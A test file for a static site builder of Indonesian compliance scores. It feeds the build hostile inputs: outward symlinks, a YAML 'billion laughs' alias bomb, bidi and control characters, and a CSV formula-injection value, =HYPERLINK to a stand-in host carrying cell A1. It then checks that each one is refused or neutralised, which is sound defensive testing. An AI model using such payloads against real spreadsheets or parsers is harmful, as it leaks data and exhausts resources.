/**
 * Issue 18: hostile and broken input through the real commands (`npm run check`, `npm run
 * build`, `npm run new-round` as subprocesses, over a broken copy of the bad-input corpus's
 * small `_base` site). Each class ends in a message naming the path (and the line where there
 * is one), a non-zero exit, no stack frame, and the published folder byte for byte as it was.
 */
import { execFile } from 'node:child_process';
import { chmodSync, cpSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, statSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join, resolve } from 'node:path';
import { promisify } from 'node:util';
import { parse } from 'csv-parse/sync';
import { afterAll, describe, expect, it } from 'vitest';
import { checkInputs } from '../src/site.ts';
import { assembleBadCase } from './helpers/bad-cases.ts';
import { hashTree, listFiles } from './helpers/tree.ts';

const REPO = resolve(import.meta.dirname, '..');
const run = promisify(execFile);
const temps: string[] = [];
afterAll(() => temps.forEach((t) => rmSync(t, { recursive: true, force: true })));

interface Ran {
  code: number;
  /** stdout and stderr, npm's own notices left out. */
  lines: string[];
  text: string;
}

async function command(file: string, args: string[], options: { env?: Record<string, string>; uid?: number } = {}): Promise<Ran> {
  const opts = {
    cwd: REPO,
    env: { ...process.env, ...options.env },
    timeout: 120_000,
    maxBuffer: 64 * 1024 * 1024,
    ...(options.uid === undefined ? {} : { uid: options.uid, gid: options.uid }),
  };
  let out: { stdout: string; stderr: string; code: number };
  try {
    out = { ...(await run(file, args, opts)), code: 0 };
  } catch (e) {
    const err = e as { code: number; stdout: string; stderr: string };
    out = { stdout: err.stdout, stderr: err.stderr, code: typeof err.code === 'number' ? err.code : -1 };
  }
  const lines = `${out.stdout}\n${out.stderr}`.split('\n').filter((l) => l !== '' && !l.startsWith('npm warn'));
  return { code: out.code, lines, text: lines.join('\n') };
}

/** `npm run <script> -- <args>`, as staff type it. */
const npm = (script: string, args: string[], env: Record<string, string> = {}) => command('npm', ['run', '--silent', script, '--', ...args], { env });

/** A copy of the corpus's small valid site, with an old published `_site/` beside it. */
function site(): { root: string; out: string; before: Record<string, string> } {
  const root = assembleBadCase('_base');
  temps.push(root);
  const out = join(root, '_site');
  mkdirSync(join(out, 'data'), { recursive: true });
  writeFileSync(join(out, 'index.html'), '<!doctype html><title>situs lama</title>');
  writeFileSync(join(out, 'data', '2021.csv'), 'code,score\r\n32,82\r\n');
  return { root, out, before: hashTree(out) };
}

const edit = (root: string, rel: string, change: (text: string) => string) => writeFileSync(join(root, rel), change(readFileSync(join(root, rel), 'utf8')));

/** `check` and `build` of `root`: both fail with the same problems, no stack, `_site/` untouched, no folder left beside it. */
async function expectRefused(s: ReturnType<typeof site>, expected: RegExp[]): Promise<string[]> {
  const [check, build] = await Promise.all([npm('check', [s.root]), npm('build', [s.out], { SITE_DATA: s.root })]);
  for (const r of [check, build]) {
    expect(r.code, r.text).toBe(1);
    expect(r.text).not.toMatch(/^\s+at /m);
    for (const pattern of expected) expect(r.text).toMatch(pattern);
  }
  // The same problems, whichever command found them (the verdict lines differ).
  const problems = (r: Ran) => r.lines.filter((l) => /^[^ ]+?(:\d+)?: /.test(l));
  expect(problems(build)).toEqual(problems(check));
  expect(hashTree(s.out)).toEqual(s.before);
  expect(readdirSync(s.root).filter((n) => n.startsWith('_site.'))).toEqual([]);
  return problems(check);
}

/**
 * Root ignores file permissions: cases about them run the command as `nobody` when this test
 * runs as root (through tsx: `npm run` would refresh its compiled bundle, owned by root), and
 * directly otherwise.
 */
const ROOT = process.getuid?.() === 0;
const NOBODY = 65534;
async function withoutPrivileges(script: string, args: string[], env: Record<string, string>): Promise<Ran> {
  if (!ROOT) return npm(script.replace(/^scripts\/|\.ts$/g, ''), args, env);
  return command(process.execPath, ['--import', 'tsx', script, ...args], { env: { ...env, HOME: tmpdir() }, uid: NOBODY });
}
/** Whether `nobody` can be run at all (a container may forbid changing user). */
const canDropPrivileges = !ROOT || (await command(process.execPath, ['-e', '0'], { uid: NOBODY })).code === 0;
/**
 * Make `path` and every folder above it readable by `nobody` (mkdtemp makes 0700 folders):
 * read and search added for others, nothing taken away (the system's /tmp stays writable by all).
 */
function openUp(path: string): void {
  for (let p = path; p !== dirname(p); p = dirname(p)) chmodSync(p, (statSync(p).mode & 0o7777) | 0o005);
}

describe.concurrent('hostile and broken input: npm run check and build', () => {
  it('a folder where a file is expected (data/scores/2024.csv/), and a pipe (which would be read forever)', async () => {
    const s = site();
    mkdirSync(join(s.root, 'data/scores/2024.csv'));
    await run('mkfifo', [join(s.root, 'data/scores/2025.csv')]);
    await expectRefused(s, [/^data\/scores\/2024\.csv: ini folder, padahal yang diharapkan berkas/m, /^data\/scores\/2025\.csv: bukan berkas biasa/m]);
  });

  it('a dangling symbolic link, and a link that loops', async () => {
    const s = site();
    symlinkSync('hilang.csv', join(s.root, 'data/scores/2024.csv'));
    symlinkSync('2025.csv', join(s.root, 'data/scores/2025.csv'));
    await expectRefused(s, [
      /^data\/scores\/2024\.csv: tautan simbolik \(symlink\) ini menunjuk ke "hilang\.csv", yang tidak ada/m,
      /^data\/scores\/2025\.csv: tautan simbolik \(symlink\) berputar/m,
    ]);
  });

  it('links out of the project are refused, naming the link; their content is never published', async () => {
    const s = site();
    const outside = mkdtempSync(join(tmpdir(), 'kepatuhan-luar-'));
    temps.push(outside);
    writeFileSync(join(outside, 'rahasia.md'), '---\ncode: "32.01"\n---\n\nRAHASIA-LUAR-PROYEK\n');
    mkdirSync(join(outside, 'halaman'));
    writeFileSync(join(outside, 'halaman', 'bocor.md'), '---\ntitle: Bocor\n---\n\nRAHASIA-LUAR-PROYEK\n');
    symlinkSync(join(outside, 'rahasia.md'), join(s.root, 'content/regions/rahasia.md'));
    symlinkSync(join(outside, 'halaman'), join(s.root, 'content/pages'));
    const problems = await expectRefused(s, [
      /^content\/regions\/rahasia\.md: tautan simbolik \(symlink\) ini menunjuk ke luar folder proyek/m,
      /^content\/pages: tautan simbolik \(symlink\) ini menunjuk ke luar folder proyek/m,
    ]);
    expect(problems.join('\n')).not.toContain('RAHASIA');
  });

  it('a folder above the files linking out of the project is the one named', async () => {
    const s = site();
    const outside = mkdtempSync(join(tmpdir(), 'kepatuhan-luar-data-'));
    temps.push(outside);
    cpSync(join(s.root, 'data'), outside, { recursive: true });
    rmSync(join(s.root, 'data'), { recursive: true });
    symlinkSync(outside, join(s.root, 'data'));
    const problems = await expectRefused(s, [/^data: tautan simbolik \(symlink\) ini menunjuk ke luar folder proyek/m]);
    expect(problems.filter((l) => l.includes('tautan simbolik'))).toHaveLength(1);
  });

  it('links inside the project are followed', async () => {
    const s = site();
    mkdirSync(join(s.root, 'arsip'));
    cpSync(join(s.root, 'data/scores/2021.csv'), join(s.root, 'arsip/2021.csv'));
    rmSync(join(s.root, 'data/scores/2021.csv'));
    symlinkSync('../../arsip/2021.csv', join(s.root, 'data/scores/2021.csv'));
    mkdirSync(join(s.root, 'arsip/narasi'));
    writeFileSync(join(s.root, 'arsip/narasi/63.71.md'), '---\ncode: "63.71"\n---\n\nNarasi lewat tautan.\n');
    symlinkSync('../../arsip/narasi', join(s.root, 'content/regions/tertaut'));
    const r = await npm('check', [s.root]);
    expect(r.code, r.text).toBe(0);
    expect(r.text).not.toMatch(/tautan/);
    expect(checkInputs(s.root).ok).toBe(true);
  });

  it.skipIf(!canDropPrivileges)('a file without read permission (as nobody when run as root, which reads anything)', async () => {
    const s = site();
    openUp(s.root);
    chmodSync(join(s.root, 'data/scores/2021.csv'), 0o000);
    chmodSync(join(s.root, 'content/regions'), 0o000); // a folder that cannot be listed
    for (const r of [await withoutPrivileges('scripts/check.ts', [s.root], {}), await withoutPrivileges('scripts/build.ts', [s.out], { SITE_DATA: s.root })]) {
      expect(r.code, r.text).toBe(1);
      expect(r.text).toMatch(/^data\/scores\/2021\.csv: tidak dapat dibaca: tidak ada izin/m);
      expect(r.text).toMatch(/^content\/regions: tidak dapat dibaca: tidak ada izin/m);
      expect(r.text).not.toMatch(/^\s+at /m);
    }
    chmodSync(join(s.root, 'content/regions'), 0o755); // for the clean-up
    expect(hashTree(s.out)).toEqual(s.before);
  });

  it.skipIf(!canDropPrivileges)('an output folder that cannot be written (EACCES): one message, the old site kept', async () => {
    const s = site();
    openUp(s.root);
    chmodSync(s.out, 0o777); // _site itself writable…
    chmodSync(s.root, 0o555); // …but not the folder above it: no _site.tmp-<pid> beside it
    const r = await withoutPrivileges('scripts/build.ts', [s.out], { SITE_DATA: s.root, CARD_CACHE: join(tmpdir(), 'kepatuhan-kartu-nobody') });
    chmodSync(s.root, 0o755);
    expect(r.code, r.text).toBe(1);
    expect(r.text).toMatch(/_site\.tmp-\d+: folder keluaran tidak dapat ditulis: tidak ada izin \(EACCES\)/);
    expect(r.text).not.toMatch(/^\s+at /m);
    expect(hashTree(s.out)).toEqual(s.before);
    // The output folder itself read-only (its parent writable): refused as well, not replaced.
    chmodSync(s.out, 0o555);
    chmodSync(join(s.out, 'data'), 0o777);
    const own = await withoutPrivileges('scripts/build.ts', [s.out], { SITE_DATA: s.root, CARD_CACHE: join(tmpdir(), 'kepatuhan-kartu-nobody') });
    chmodSync(s.out, 0o755);
    expect(own.code, own.text).toBe(1);
    expect(own.text).toMatch(/_site: folder keluaran tidak dapat ditulis: tidak ada izin \(EACCES\)/);
    expect(own.text).not.toMatch(/^\s+at /m);
    expect(hashTree(s.out)).toEqual(s.before);
    expect(readdirSync(s.root).filter((n) => n.startsWith('_site.'))).toEqual([]);
  });

  it('an output folder that cannot be made (under a file; works as root too)', async () => {
    const s = site();
    writeFileSync(join(s.root, 'berkas'), 'bukan folder');
    const r = await npm('build', [join(s.root, 'berkas', '_site')], { SITE_DATA: s.root });
    expect(r.code, r.text).toBe(1);
    expect(r.text).toMatch(/berkas\/_site\.tmp-\d+: folder keluaran tidak dapat ditulis: bagian jalurnya berkas, padahal yang diharapkan folder \(ENOTDIR\)/);
    expect(r.text).not.toMatch(/^\s+at /m);
  });

  it('a YAML alias bomb ("billion laughs") is refused at its line in well under a second', async () => {
    const s = site();
    const lol = `[${Array(9).fill('"lol"').join(', ')}]`;
    const levels = 'bcdefghi'.split('').map((n, i) => `${n}: &${n} [${Array(9).fill(`*${'abcdefgh'[i]}`).join(', ')}]`);
    writeFileSync(
      join(s.root, 'content/rounds/2021.md'),
      ['---', 'title: Penilaian 2021', `a: &a ${lol}`, ...levels, 'bands: *i', '---', '', 'Narasi.', ''].join('\n'),
    );
    const started = performance.now();
    const { ok } = checkInputs(s.root);
    expect(performance.now() - started).toBeLessThan(1000);
    expect(ok).toBe(false);
    await expectRefused(s, [/^content\/rounds\/2021\.md:3: front matter tidak dapat dibaca: anchor \(&nama\) dan alias \(\*nama\) YAML tidak diizinkan/m]);
  });

  it('front matter over 64 KB is refused at line 1', async () => {
    const s = site();
    writeFileSync(join(s.root, 'content/regions/32.01.md'), `---\ncode: "32.01"\ndescription: ${'x'.repeat(70_000)}\n---\n\nProfil.\n`);
    await expectRefused(s, [/^content\/regions\/32\.01\.md:1: front matter terlalu besar \(69 KB\); paling banyak 64 KB/m]);
  });

  it('control characters, bidi overrides and zero-width characters are errors at file:line', async () => {
    const s = site();
    edit(s.root, 'data/regions.csv', (t) =>
      t
        .replace('Majalengka', 'Maja\x1b[31mlengka')
        .replace('Banjarmasin', 'Banjar\u202emasin')
        .replace('Kalimantan Selatan', 'Kalimantan\u200b Selatan')
        .replace('Jawa Barat', 'Jawa\x85Barat'),
    );
    edit(s.root, 'content/rounds/2021.md', (t) => t.replace('title: Penilaian Kepatuhan 2021', 'title: "Penilaian\\u202e 2021"'));
    const problems = await expectRefused(s, [
      /^data\/regions\.csv:2: kolom name: berisi karakter kendali U\+0085/m,
      /^data\/regions\.csv:3: kolom name: berisi karakter tak terlihat U\+200B/m,
      /^data\/regions\.csv:5: kolom name: berisi karakter kendali U\+001B/m,
      /^data\/regions\.csv:8: kolom name: berisi karakter tak terlihat U\+202E/m,
      /^content\/rounds\/2021\.md:2: title: berisi karakter tak terlihat U\+202E/m,
    ]);
    // Quoted back, such characters are shown as codes: nothing reaches the terminal raw.
    expect(problems.join('\n')).not.toMatch(/[\x1b\x85\u202e\u200b]/);
  });

  it('a 300-character name is an error at its line (not ENAMETOOLONG from deep inside the build)', async () => {
    const s = site();
    edit(s.root, 'data/regions.csv', (t) => `${t}32.73,${'Kepulauan Seribu '.repeat(18).slice(0, 300)},kota,32,,\n`);
    await expectRefused(s, [/^data\/regions\.csv:9: kolom name: terlalu panjang \(300 karakter\); paling banyak 150 karakter$/m]);
  });

  it('a 5 MB value is not echoed whole: quoted values are cut to about 80 characters', async () => {
    const s = site();
    edit(s.root, 'data/scores/2021.csv', (t) => t.replace('77', `7${'x'.repeat(5 * 1024 * 1024)}`));
    const problems = await expectRefused(s, [
      /^data\/scores\/2021\.csv:4: kolom score: terlalu panjang/m,
      /^data\/scores\/2021\.csv:4: kolom score: "7x{78}…" bukan angka/m,
    ]);
    for (const line of problems) expect(line.length).toBeLessThan(400);
  });
});

describe.concurrent('the commands’ safety net', () => {
  it('an unexpected exception prints one line and where to report it; the stack only with --debug', async () => {
    const root = assembleBadCase('_base');
    temps.push(root);
    // A broken link where new-round writes: it does not count as a file, yet writing there fails.
    symlinkSync('/tidak-ada/2025.md', join(root, 'content/rounds/2025.md'));
    const plain = await npm('new-round', ['2025'], { SITE_DATA: root });
    expect(plain.code).toBe(1);
    expect(plain.lines[0]).toMatch(/content\/rounds\/2025\.md: berkas atau folder ini tidak dapat dipakai \(new-round\): sudah ada \(EEXIST\)/);
    expect(plain.lines[1]).toMatch(/^Bila terulang, laporkan ke pengembang situs beserta keluaran "npm run new-round -- --debug"/);
    expect(plain.lines).toHaveLength(2);
    const debug = await npm('new-round', ['2025', '--debug'], { SITE_DATA: root });
    expect(debug.code).toBe(1);
    expect(debug.text).toMatch(/^\s+at /m);
  });
});

describe.concurrent('CSV downloads of a real build', () => {
  it('no cell of any published CSV starts with a formula character unless prefixed; JSON keeps the true text', async () => {
    const s = site();
    const names: [string, string][] = [
      ['Majalengka', '"=HYPERLINK(""http://x.example/?""&A1;""klik"")"'],
      ['Banjarmasin', '+62 Banjarmasin'],
      ['Jawa Barat', '-Jawa Barat'],
      ['Kalimantan Selatan', '@Kalimantan Selatan'],
    ];
    for (const file of ['data/regions.csv', 'data/scores/2019.csv', 'data/scores/2021.csv'])
      edit(s.root, file, (t) => names.reduce((text, [from, to]) => text.replaceAll(from, to), t));
    const out = join(s.root, 'terbit');
    const r = await npm('build', [out], { SITE_DATA: s.root });
    expect(r.code, r.text).toBe(0);
    const csvs = listFiles(out).filter((f) => f.endsWith('.csv'));
    expect(csvs).toEqual(expect.arrayContaining(['data/2019.csv', 'data/2021.csv', 'data/semua.csv']));
    expect(csvs.filter((f) => f.endsWith('/riwayat.csv')).length).toBeGreaterThanOrEqual(7);
    let prefixed = 0;
    for (const file of csvs) {
      const rows = parse(readFileSync(join(out, file), 'utf8')) as string[][];
      for (const cell of rows.flat()) {
        // A negative number is a number, not a formula (scoreChange, rankChange).
        if (/^-\d+(\.\d+)?$/.test(cell)) continue;
        expect(cell, `${file}: ${cell}`).not.toMatch(/^[=+\-@\t\r]/);
        if (/^'[=+\-@]/.test(cell)) prefixed++;
      }
    }
    expect(prefixed).toBeGreaterThanOrEqual(4 * 3); // each hostile name, in each file that lists it (at least the two rounds and semua.csv)
    const json = JSON.parse(readFileSync(join(out, 'data/2021.json'), 'utf8')) as { results: { name: string }[] };
    expect(json.results.map((x) => x.name)).toEqual(
      expect.arrayContaining(['=HYPERLINK("http://x.example/?"&A1;"klik")', '+62 Banjarmasin', '-Jawa Barat', '@Kalimantan Selatan']),
    );
  });
});
